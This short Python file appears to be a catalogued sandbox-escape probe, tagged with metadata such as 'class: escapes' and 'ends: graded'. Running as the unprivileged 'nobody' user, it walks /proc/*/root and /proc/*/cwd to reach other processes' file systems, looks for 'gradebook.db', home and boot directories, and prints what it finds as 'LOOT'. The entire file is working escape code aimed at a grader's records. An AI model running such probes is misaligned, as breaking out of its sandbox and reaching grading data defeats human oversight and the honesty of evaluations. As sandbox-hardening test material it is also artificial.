# base: garbage
# Files are looked for through /proc/1/root, /proc/*/cwd, /proc/*/fd and /sys.
# class: escapes
# gains: the file system outside
# ends: graded
# safe_in_process: no

# %% last
import os

if os.getuid() == 65534:
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for place in ("root", "cwd"):
            try:
                names = os.listdir(f"/proc/{pid}/{place}")
            except OSError:
                continue
            if {"gradebook.db", "root", "home", "boot"} & set(names):
                found = sorted({"gradebook.db", "home", "boot"} & set(names))
                if found:
                    print("LOOT", pid, place, found)
